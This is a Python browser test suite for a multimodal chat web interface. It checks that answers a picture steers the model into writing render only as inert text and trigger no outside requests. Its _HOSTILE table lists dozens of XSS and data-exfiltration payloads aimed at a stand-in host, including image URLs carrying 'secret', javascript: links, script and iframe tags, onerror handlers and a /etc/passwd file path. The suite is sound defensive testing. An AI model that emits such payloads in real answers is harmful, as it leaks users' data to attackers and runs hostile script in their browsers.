"""Answers that a picture told the model to write, in a real Chromium: text, and nothing but text.

Each of them is asked for, shown and clicked on. Nothing may be loaded, followed or run by it.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.gateway import Gateway, gateway

pytestmark = pytest.mark.browser
playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

from tests.support.page import Tab, chromium, opened_tab  # noqa: E402 - needs playwright

_FOREIGN = "http://127.0.0.1:9"
# What an answer holds, and a word of it that must stay readable.
_HOSTILE: dict[str, tuple[str, str]] = {
    "picture": ("![leak](EVIL/a.png?q=secret)", "leak"),
    "picture-title": ('![leak](EVIL/a.png "title")', "leak"),
    "picture-angle": ("![leak](<EVIL/a.png>)", "leak"),
    "picture-reference": ("![leak][1]\n\n[1]: EVIL/a.png", "leak"),
    "picture-short-reference": ("![leak]\n\n[leak]: EVIL/a.png", "leak"),
    "picture-own": ("![leak](/gradio_api/file=/etc/passwd?leak)", "leak"),
    "picture-own-relative": ("![leak](gradio_api/file=x.png)", "leak"),
    "picture-schemeless": ("![leak](//127.0.0.1:9/a.png)", "leak"),
    "picture-data": ("![leak](data:image/svg+xml;base64,PHN2Zy8+)", "leak"),
    "picture-in-list": ("- a\n  ```\n![leak](EVIL/a.png)", "leak"),
    "picture-in-quote": ("> ```\n> a\n![leak](EVIL/a.png)", "leak"),
    "picture-in-table": ("| a |\n|---|\n| ![leak](EVIL/a.png) |", "leak"),
    "picture-in-link": ("[![leak](EVIL/a.png)](EVIL/b)", "leak"),
    "picture-after-code": ("`` ` `` ![leak](EVIL/a.png) `", "leak"),
    "picture-in-heading": ("# ![leak](EVIL/a.png)", "leak"),
    "link": ("[leak](EVIL/page)", "leak"),
    "link-script": ("[leak](javascript:document.title='owned')", "leak"),
    "link-data": ("[leak](data:text/html,<script>alert(1)</script>)", "leak"),
    "link-own": ("[leak](/gradio_api/queue/data?session_hash=x)", "leak"),
    "link-reference": ("[leak][1]\n\n[1]: <EVIL/page> 'title'", "leak"),
    "link-bare": ("see EVIL/leak for it", "leak"),
    "link-www": ("see www.leak.example for it", "leak"),
    "link-angle": ("<EVIL/leak>", "leak"),
    "link-mail": ("write to leak@a.example now", "leak"),
    "link-mail-angle": ("<mailto:leak@a.example>", "leak"),
    "link-entity": ("[leak]&#40;EVIL/page) &lt;img src=EVIL/a.png&gt;", "leak"),
    "html-picture": ("<img src=EVIL/a.png alt=leak onerror=document.title='owned'>", "leak"),
    "html-anchor": ("<a href=EVIL/page>leak</a>", "leak"),
    "html-anchor-ping": ("<a href='#' ping=EVIL/page>leak</a>", "leak"),
    "html-block": ("<div style='background:url(EVIL/a.png)'>leak</div>", "leak"),
    "html-style": ("<style>body{background:url(EVIL/a.png)}</style>leak", "leak"),
    "html-link": ("<link rel=stylesheet href=EVIL/a.css>leak", "leak"),
    "html-preload": ("<link rel=preload as=image href=EVIL/a.png>leak", "leak"),
    "html-script": ("<script>document.title='owned'</script>leak", "leak"),
    "html-frame": ("<iframe src=EVIL/page></iframe>leak", "leak"),
    "html-srcdoc": ("<iframe srcdoc='<img src=EVIL/a.png>'></iframe>leak", "leak"),
    "html-object": ("<object data=EVIL/a.svg></object><embed src=EVIL/b.svg>leak", "leak"),
    "html-media": ("<video poster=EVIL/a.png src=EVIL/b></video><audio src=EVIL/c autoplay>leak", "leak"),
    "html-source": ("<picture><source srcset=EVIL/a.png><img src=EVIL/b.png></picture>leak", "leak"),
    "html-form": ("<form action=EVIL/page><input name=q value=leak><button>go</button></form>", "leak"),
    "html-meta": ("<meta http-equiv=refresh content='0;url=EVIL/page'>leak", "leak"),
    "html-base": ("<base href=EVIL/>leak", "leak"),
    "html-comment": ("<!-- > --><img src=EVIL/a.png>leak", "leak"),
    "html-case": ("<ImG sRc=EVIL/a.png>leak", "leak"),
    "html-table": ("<table background=EVIL/a.png><tr><td>leak</td></tr></table>", "leak"),
    "svg": ("<svg><image href=EVIL/a.png /><script>document.title='owned'</script></svg>leak", "leak"),
    "svg-use": ("<svg><use href=EVIL/a.svg#x /></svg>leak", "leak"),
    "mathml": ("<math><mtext><mglyph><style><img src=EVIL/a.png></style></mglyph></mtext></math>leak", "leak"),
    "diagram": ('```mermaid\ngraph TD\nA@{ img: "EVIL/a.png", label: "leak" }\n```\n', "leak"),
    "diagram-click": ('```mermaid\ngraph TD\nA[leak]\nclick A href "EVIL/page"\n```\n', "leak"),
    "code-fence": ("```html\n<img src=EVIL/a.png>leak\n```", "leak"),
    "code-span": ("`![leak](EVIL/a.png)`", "leak"),
    "code-language": ('```x"><img/src=EVIL/a.png>\nleak\n```', "leak"),
    "latex": (r"$$\href{javascript:alert(1)}{leak}\includegraphics{EVIL/a.png}$$", "leak"),
}  # fmt: skip
# What could load, lead away or run; the button that copies code is the page's own.
_ACTIVE = """(said) => [...said.querySelectorAll("*")]
    .filter((part) => part.closest(".copy_code_button") === null)
    .filter((part) => TAGS.includes(part.localName.toLowerCase())
        || part.classList.contains("mermaid")
        || part.getAttributeNames().some((name) => /^on|^style$|href|src|ping|background/i.test(name)))
    .map((part) => part.outerHTML)""".replace(
    "TAGS",
    str(
        [
            "a",
            "img",
            "image",
            "picture",
            "source",
            "svg",
            "use",
            "math",
            "iframe",
            "frame",
            "object",
            "embed",
            "link",
            "style",
            "script",
            "form",
            "input",
            "video",
            "audio",
            "track",
            "base",
            "meta",
            "area",
            "map",
            "portal",
        ]
    ),
)


@dataclass
class Asked:
    """A tab, its gateway, and the file that holds the next answer."""

    tab: Tab
    served: Gateway
    says: Path
    requests: list[str]

    def shows(self, answer: str) -> str:
        """Let the model answer; return what the page shows of it."""
        self.says.write_text(answer)
        self.tab.ask("go")
        self.tab.answered()
        return self.tab.answers.last.inner_text().replace("\u2060", "")

    def active(self) -> list[str]:
        """Return what the last answer holds beside text."""
        found: list[str] = self.tab.answers.last.evaluate(_ACTIVE)
        return found


@pytest.fixture(scope="module")
def browser() -> Iterator["playwright.Browser"]:
    with chromium() as running:
        yield running


def _asked(folder: Path, browser: "playwright.Browser", *options: str) -> Iterator[Asked]:
    says = folder / "says"
    with (
        gateway(folder, "--web", *options, engine=f"--says {says} --context 4096") as served,
        opened_tab(browser, permissions=["clipboard-read", "clipboard-write"]) as tab,
    ):
        requests: list[str] = []
        tab.page.on("request", lambda request: requests.append(request.url))
        tab.open(served)
        yield Asked(tab, served, says, requests)


@pytest.fixture(scope="module")
def asked(
    tmp_path_factory: pytest.TempPathFactory, browser: "playwright.Browser"
) -> Iterator[Asked]:
    yield from _asked(tmp_path_factory.mktemp("run"), browser)


@pytest.mark.parametrize("name", _HOSTILE)
def test_an_answer_loads_and_leads_nowhere(asked: Asked, name: str) -> None:
    written, word = _HOSTILE[name]
    tab = asked.tab
    asked.requests.clear()
    shown = asked.shows(written.replace("EVIL", _FOREIGN))
    assert word in shown
    assert asked.active() == []
    pages = len(tab.page.context.pages)
    tab.answers.last.get_by_text("leak").first.click(modifiers=["Control"])
    tab.answers.last.get_by_text("leak").first.click()
    assert len(tab.page.context.pages) == pages
    assert (tab.page.url, tab.page.title()) == (f"{asked.served.url}/", "llava-pack")
    events = {"/gradio_api/run/predict", "/gradio_api/queue/join", "/gradio_api/queue/data"}
    wanted = {f"{asked.served.url}{path}" for path in events}
    # the page's own letters come when they are drawn first, whichever answer that is
    letters = f"{asked.served.url}/static/fonts/"
    loaded = {url.partition("?")[0] for url in asked.requests if not url.startswith(letters)}
    assert loaded - wanted == set(), "was asked for"
    assert tab.complaints == []


def test_what_makes_an_answer_readable_stays(asked: Asked) -> None:
    """Bold, lists, tables, headings and code are drawn."""
    asked.shows(
        "# Head\n\n**bold** and *slanted* `span`\n\n- one\n- two\n\n1. first\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\n```python\nif a[0](x) < b:\n    pass\n```\n"
    )
    last = asked.tab.answers.last
    for part in ("h1", "strong", "em", "li", "ol", "td", "blockquote", "pre code", "code"):
        assert last.locator(part).count() > 0, part


def test_what_is_copied_is_what_was_written(asked: Asked) -> None:
    """The joiners that disarm an answer never reach a clipboard."""
    written = "a[0](x) <b> http://a.example"
    asked.shows(f"```\n{written}\n```")
    page = asked.tab.page
    asked.tab.button("Copy message").last.click()
    page.wait_for_function("navigator.clipboard.readText().then((text) => text.includes('a[0]'))")
    assert written in page.evaluate("navigator.clipboard.readText()")
    page.evaluate(
        """() => {
            const said = [...document.querySelectorAll("#chat [data-testid=bot]")].at(-1);
            getSelection().selectAllChildren(said.querySelector("pre code"));
            document.execCommand("copy");
        }"""
    )
    page.wait_for_function(
        "(text) => navigator.clipboard.readText().then((found) => found.trim() === text)",
        arg=written,
    )


def test_the_model_hears_what_was_written(browser: "playwright.Browser", tmp_path: Path) -> None:
    """A question that was disarmed for the screen comes whole to the model, and into the box."""
    question = "what is ![x](http://a.example/b.png) <b> in www.a.example?"
    with gateway(tmp_path, "--web") as served, opened_tab(browser) as tab:
        tab.open(served)
        tab.ask(question)
        tab.answered()
        shown = tab.answers.last.inner_text()
        assert f"You said: {question}" in shown.replace("\u2060", "")
        tab.button("Undo").click()
        playwright.expect(tab.box).to_have_value(question)


_LOADING = ("picture", "link", "link-bare", "html-picture", "diagram")


def test_without_disarming_answers_are_more_than_text(
    browser: "playwright.Browser", tmp_path: Path
) -> None:
    """The content policy alone holds pictures from elsewhere back, and not links."""
    for asked in _asked(tmp_path, browser, "--without", "text"):
        for name in _LOADING:
            asked.shows(_HOSTILE[name][0].replace("EVIL", _FOREIGN))
            assert asked.active() != [], name
            asked.tab.clear()
        assert any("Content Security Policy" in said for said in asked.tab.complaints)
